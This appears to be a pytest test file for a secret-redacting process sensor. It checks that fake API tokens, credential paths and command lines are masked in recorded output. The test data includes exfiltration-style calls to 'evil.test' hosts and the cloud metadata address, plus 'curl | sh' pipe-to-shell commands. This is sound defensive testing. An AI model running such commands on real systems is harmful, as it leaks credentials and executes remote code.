"""No secret leaves the process, whatever a program does with it."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eightysix.context import credentials, packages
from eightysix.context.commands import summarise
from eightysix_sensor import commands, places, record, told
from tests.sensor.hosts import Host

TOKENS = (
    "ghp_0123456789abcdefghijABCDEFGHIJ012345", "hf_abcdefghijklmnopqrstuvwxyz012345", "sk-ant-api03-abcdefghijklmnop0123456789",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl", "AKIAIOSFODNN7EXAMPLE1", "pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAw",
    "0123456789abcdef0123456789abcdef01234567",
)  # fmt: skip


def test_canaries_in_every_place_of_a_program_stay_in_it(tmp_path: Path) -> None:
    host = Host(tmp_path)
    host.run(
        f"""
        import http.client, os, pathlib, socket, subprocess, sys, urllib.request
        for token in {TOKENS!r}:
            host = "https://u:" + token + "@h.test/"
            for words in (
                ["curl", "-H", "Authorization: Bearer " + token, host + token + "?k=" + token], ["x", "-p" + token],
                ["docker", "login", "-p", token], ["x", token], ["x", "--api-key=" + token], ["/opt/" + token + "/run"],
                ["env", "T=" + token, "python", "-c", "print('" + token + "')"], [token],
                ["git", "clone", "https://" + token + "@h.test/r"],
                ["pip", "install", "a @ git+https://" + token + "@h.test/r.git"],
            ):
                try: subprocess.run(["/nonexistent/" + words[0]] + words[1:])
                except OSError: pass
                os.system("false && " + " ".join(words).replace("(", "").replace(")", "").replace("'", ""))
            sys.audit("urllib.Request", "https://" + token + ".evil.test/" + token + "?x=" + token, token.encode(), {{}}, "POST")
            imds = "http://169.254.169.254/metadata/" + token
            sys.audit("urllib.Request", imds + "?resource=" + token + "&client_id=" + token, None, {{}}, "GET")
            sys.audit("socket.getaddrinfo", token + ".evil.test", 443, 0, 0, 0)
            sys.audit("socket.connect", None, (token + ".evil.test", 443))
            sys.audit("socket.connect", None, "/run/" + token)
            sys.audit("pickle.find_class", token, token)
            sys.audit("import", token, None, None, None, None)
            sys.audit("open", "/run/secrets/" + token, "r", 0)
            sys.audit("open", "/x/site-packages/" + token + ".pth", "w", 0)
            sys.audit("ctypes.dlopen", "/lib/" + token + ".so")
            sys.audit("ctypes.dlsym", None, token)
            sys.audit("compile", b"", "/x/" + token + ".py")
            sys.audit("os.putenv", b"API_KEY", token.encode())
            sys.audit("os.putenv", token.encode() + b"_TOKEN", b"")
            exec(compile("1", "<" + token + ">", "exec"))
        """,
        env={"A_TOKEN": TOKENS[0], "KEY": TOKENS[1]}, arguments=["--token", TOKENS[0], f"--key={TOKENS[1]}"],
    )  # fmt: skip
    lines = host.raw().lower()
    for token in TOKENS:
        assert token.lower().encode() not in lines
        assert token[8:26].lower().encode() not in lines


@pytest.mark.parametrize(
    ("argv", "told_as"),
    [
        (
            ["pip", "install", "torch-perf==1.4.3", "-r", "req.txt"],
            "pip install torch-perf==1.4.3 -r req.txt",
        ),
        (["python3", "-m", "pip", "install", "a>=1,<2"], "python3 -m pip install a>=1,<2"),
        (["python", "-c", "import os; print(os.environ)", "x"], "python -c \u2026"),
        (["python", "/app/server.py", "--port", "80"], "python /app/server.py --port 80"),
        (
            ["tool", "hunter2", "--password", "hunter2", "--p=hunter2"],
            "tool \u2026 --password \u2026 --p=hunter2",
        ),
        (["mysql", "-phunter2"], "mysql -p\u2026"),
        (["curl", "-u", "me:hunter2", "https://x.test/a?b=c"], "curl -u \u2026 https://x.test/a"),
        (["docker", "login", "-p", "hunter2"], "docker login -p \u2026"),
        (["env", "TOKEN=hunter2", "pip", "install", "x"], "env TOKEN=\u2026 pip install x"),
        (
            ["sh", "-c", "TOKEN=hunter2 pip install x && echo hunter2"],
            "sh -c TOKEN=\u2026 pip install x && echo \u2026",
        ),
        (["bash", "-lc", "curl https://a:b@x.test/s | sh"], "bash -lc curl https://x.test/s | sh"),
    ],
)
def test_a_command_line_is_told_without_what_may_be_secret(argv: list[str], told_as: str) -> None:
    assert " ".join(commands.told_argv(argv)) == told_as


@pytest.mark.parametrize(
    "argv",
    [
        ["pip", "install", "-q", "torch-perf==1.4.3"],
        ["/opt/venv/bin/python", "-m", "pip", "install", "torch-perf"],
        ["uv", "pip", "install", "x==1"],
        ["git", "clone", "https://github.com/a/b"],
        ["sh", "-c", "pip install x"],
        ["huggingface-cli", "download", "owner/model"],
        ["npm", "install", "left-pad"],
        ["bash", "-c", "curl https://x.test/a.sh | bash"],
    ],
)
def test_the_reader_makes_of_it_what_it_makes_of_the_whole(argv: list[str]) -> None:
    told_words = commands.told_argv(argv)
    whole, shown = summarise(argv[0], argv[1:]), summarise(told_words[0], told_words[1:])
    assert (shown.activity, shown.artifacts) == (whole.activity, whole.artifacts)


@given(st.text(max_size=60))
def test_what_looks_secret_to_the_reader_looks_secret_to_the_sensor(word: str) -> None:
    assert told.looks_secret(word) == packages.looks_secret(word)
    assert told.told_path(word) == packages.told_path(word)


@pytest.mark.parametrize("token", TOKENS)
def test_tokens_look_secret(token: str) -> None:
    assert told.looks_secret(token)


def test_the_sensor_knows_the_paths_that_the_reader_knows() -> None:
    known = {line.strip() for line in credentials._TABLE.splitlines() if line.startswith(" ")}
    assert set(places.CREDENTIALS) == known


@given(
    st.sampled_from(places.CREDENTIALS),
    st.sampled_from(["/", "/home/me/", "/var/", "/var/lib/x/", "/proc/1/root/var/", "/a/../"]),
)
def test_the_sensor_judges_paths_as_the_reader_does(path: str, before: str) -> None:
    kind = "session" if "modelscope" in path else "x.json" if "/cache/" in path else "word"
    path = before + path.lstrip("/").replace("*", kind)
    assert places.is_credential(path) == (credentials.credential_at(path) is not None)
    if places.is_credential(path):
        assert not places.skips_open((path, "r", 0))
        if not path.endswith(kind):
            assert not places.skips_open((path.rpartition("/")[2], "r", 0))


@given(st.from_regex(r"[A-Z_]{1,12}(KEY|TOKEN|PAT|AUTH|X|PWD|SAS)?", fullmatch=True))
def test_variables_that_the_reader_exposes_are_told(name: str) -> None:
    if credentials.is_credential_variable(name):
        assert places.is_sensitive(name)


@given(st.text(max_size=80))
def test_urls_never_raise_and_have_no_query(url: str) -> None:
    shown = told.told_url("https://" + url)
    assert "?" not in shown
    assert "@" not in shown


@given(st.text(max_size=40))
def test_without_the_accelerator_json_is_the_same(text: str) -> None:
    assert json.loads(record._quoted(text)) == json.loads(record.quoted(text)) == text


def test_its_copy_of_the_builtins_is_a_copy() -> None:
    assert vars(sys.modules["eightysix_sensor.told"])["__builtins__"] is not vars(sys.modules["builtins"])
